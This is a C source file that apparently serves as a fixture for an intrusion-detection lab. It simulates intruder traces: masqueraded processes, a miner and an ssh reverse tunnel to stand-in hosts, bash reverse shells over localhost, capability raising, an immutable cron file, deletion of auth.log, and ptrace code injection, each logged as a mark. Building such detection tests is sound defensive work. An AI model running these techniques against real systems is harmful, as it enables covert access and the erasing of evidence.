/* intruder: processes as an intruder without a kernel module leaves them: under false names, from odd
 * places, with a shell on a connection, with rights that they should not have.  None does any harm.
 * It writes lines of marks.jsonl. */
#define _GNU_SOURCE
#include "scene.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void mark(const char *kind, pid_t pid, const char *path)
{
    printf("{\"kind\":\"%s\",\"pid\":%d,\"path\":\"%s\",\"by\":\"intruder\"}\n", kind, pid, path);
}

/* A copy of this program. */
static void copy_to(const char *path, mode_t mode)
{
    char buffer[65536];
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC),
        to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);

    for (ssize_t n; (n = read(from, buffer, sizeof buffer)) > 0;)
        check(write(to, buffer, (size_t)n) == n, path);
    check(to >= 0 && !fchmod(to, mode), path);
    close(to);
    close(from);
}

/* Starts the program at @path; @kind: the mark. */
static pid_t start(const char *kind, const char *path, char *const argv[], char *const envp[])
{
    pid_t pid = fork();

    if (!pid) {
        execve(path, argv, envp);
        check(false, path);
        _exit(1);
    }
    mark(kind, pid, path);
    return pid;
}

#define RUN(kind, path, ...) start(kind, path, (char *[]){ __VA_ARGS__, NULL }, environ)

static int connect_to(const char *address, int port, int flags)
{
    int fd = socket(AF_INET, SOCK_STREAM | flags, 0);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

    to.sin_addr.s_addr = inet_addr(address);
    check(!connect(fd, (void *)&to, sizeof to) || errno == EINPROGRESS, address);
    return fd;
}

/* ---- what the copies do, by their names ---- */

void posing(void)
{
    const char *me = program_invocation_short_name;

    if (!strcmp(me, "xmrig"))
        connect_to("198.51.100.33", 3333, SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (!strcmp(me, "nginx")) {
        become(WEB);
        pid_t pid = fork();
        if (!pid) {
            execl("/bin/sh", "sh", "-c", "sleep 7200; :", NULL);
            _exit(1);
        }
        mark("web_shell", pid, "/bin/sh");
    }
    if (!strcmp(me, ".agent")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(31337) };

        check(!bind(fd, (void *)&at, sizeof at) && !listen(fd, 1), "listen");
    }
    sleep_for_ever();
}

static void odd_programs(void)
{
    mkdir("/dev/shm/.x", 0755);
    mkdir("/tmp/...", 0755);
    mkdir("/var/tmp", 01777);
    mkdir("/usr/sbin", 0755);
    copy_to("/dev/shm/.x/u8:3-events]", 0755);
    copy_to("/dev/shm/.agent", 0755);
    copy_to("/tmp/.../xmrig", 0755);
    copy_to("/usr/sbin/nginx", 0755);
    copy_to("/usr/bin/ssh", 0755);
    copy_to("/usr/sbin/rsyslogd", 0755);
    RUN("false_name", "/dev/shm/.x/u8:3-events]", "[kworker/u8:3-events]");
    RUN("listener", "/dev/shm/.agent", "/dev/shm/.agent", "-d");
    RUN("miner", "/tmp/.../xmrig", "./xmrig", "-o", "stratum+tcp://198.51.100.33:3333", "-u",
        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZi",
        "--donate-level=1");
    RUN("server", "/usr/sbin/nginx", "nginx");
    RUN("tunnel", "/usr/bin/ssh", "ssh", "-fN", "-R", "2222:127.0.0.1:22", "u@198.51.100.34");
    start("no_arguments", "/usr/sbin/rsyslogd", (char *[]){ NULL }, (char *[]){ NULL });
}

/* ---- shells on connections ---- */

static void shells(void)
{
    int door = listen_on(AF_INET, 7301);

    for (int i = 0; i < 2; i++) {
        static const char *const shell[] = { "/bin/bash", "/bin/sh" };
        pid_t pid = fork();

        if (!pid) {
            int fd = connect_to("127.0.0.1", 7301, 0);

            for (int k = 0; k < 3; k++)
                dup2(fd, k);
            close(fd);
            execl(shell[i], shell[i], "-i", NULL);
            _exit(1);
        }
        mark("reverse_shell", pid, shell[i]);
    }
    (void)door;
}

/* ---- rights, files, memory ---- */

/* Of alice, with CAP_DAC_OVERRIDE, CAP_SYS_MODULE and CAP_SYS_PTRACE. */
static void rights_of_root(void)
{
    static const int caps[] = { 1, 16, 19 };
    struct {
        uint32_t version;
        int pid;
    } head = { 0x20080522, 0 };
    uint32_t data[6] = { 0 };
    pid_t pid = fork();

    if (pid) {
        mark("odd_rights", pid, "/bin/bash");
        return;
    }
    for (unsigned i = 0; i < 3; i++)
        data[0] = data[1] = data[2] |= 1u << caps[i];
    prctl(PR_SET_KEEPCAPS, 1);
    become(ALICE);
    check(!syscall(SYS_capset, &head, data), "capset");
    for (unsigned i = 0; i < 3; i++)
        prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, caps[i], 0, 0);
    execl("/bin/bash", "bash", "-c", "read -r line < /run/lab/fifo; :", NULL);
    _exit(1);
}

static void odd_files(void)
{
    int fd, flags = 0;

    mkdir("/etc/cron.d", 0755);
    fd = open("/etc/cron.d/lab-kept", O_RDWR | O_CREAT | O_CLOEXEC, 0644);
    check(write(fd, "* * * * * root /usr/bin/true\n", 29) == 29 &&
              !ioctl(fd, FS_IOC_GETFLAGS, &flags) &&
              !ioctl(fd, FS_IOC_SETFLAGS, &(int){ flags | FS_IMMUTABLE_FL }),
          "immutable");
    mark("immutable", 0, "/etc/cron.d/lab-kept");
    mkdir("/var/log", 0755);
    fd = open("/var/log/auth.log", O_RDWR | O_CREAT, 0640);
    check(write(fd, "removed\n", 8) == 8 && !unlink("/var/log/auth.log"), "auth.log");
    mark("removed_log", getpid(), "/var/log/auth.log");
    fd = open("/dev/mem", O_RDONLY);
    check(fd >= 0, "/dev/mem");
    mark("raw_memory", getpid(), "/dev/mem");
    fd = open("/proc/1/mem", O_RDWR);
    check(fd >= 0, "/proc/1/mem");
}

/* A library that no package has, as one that was loaded by hand. */
static void odd_library(void)
{
    int from = open("/usr/lib/lab-preload.so", O_RDONLY | O_CLOEXEC),
        to = open("/dev/shm/.lib.so", O_RDWR | O_CREAT | O_CLOEXEC, 0755);
    char buffer[65536];
    ssize_t n = read(from, buffer, sizeof buffer);

    check(n > 0 && write(to, buffer, (size_t)n) == n, "library");
    check(mmap(NULL, (size_t)n, PROT_READ | PROT_EXEC, MAP_PRIVATE, to, 0) != MAP_FAILED, "mmap");
    mark("odd_library", getpid(), "/dev/shm/.lib.so");
}

static void raw_sockets(void)
{
    struct sock_filter code[] = { { 0x30, 0, 0, 20 },     { 0x15, 0, 3, 8 },
                                  { 0x28, 0, 0, 24 },     { 0x15, 0, 1, 0x5353 },
                                  { 0x06, 0, 0, 0xffff }, { 0x06, 0, 0, 0 } };
    struct sock_fprog program = { sizeof code / sizeof *code, code };
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);

    check(fd >= 0 && !setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program),
          "raw socket");
    mark("raw_socket", getpid(), "");
}

/* ---- code put into another process ---- */

__attribute__((noinline, aligned(64))) static void victim_code(void)
{
    __asm__ volatile(".fill 64, 1, 0x90");
}

static void injected(void)
{
    pid_t pid = fork();
    int status;

    if (!pid) {
        call_me("lab-victim");
        sleep_for_ever();
    }
    usleep(200000);
    check(!ptrace(PTRACE_ATTACH, pid, NULL, NULL) && waitpid(pid, &status, 0) == pid, "attach");
    for (unsigned i = 0; i < 4; i++) // movabs $0x1ab, %rax, over and over
        check(!ptrace(PTRACE_POKETEXT, pid, (char *)(uintptr_t)&victim_code + 8 * i + 16,
                      0x00000001abb84890),
              "poke");
    check(!ptrace(PTRACE_DETACH, pid, NULL, NULL), "detach");
    mark("injected", pid, "");
}

void intruder(void)
{
    setlinebuf(stdout);
    odd_programs();
    shells();
    rights_of_root();
    odd_files();
    odd_library();
    raw_sockets();
    victim_code();
    injected();
    fact("{\"kind\":\"intruder\",\"pid\":%d}", getpid());
    sleep_for_ever();
}
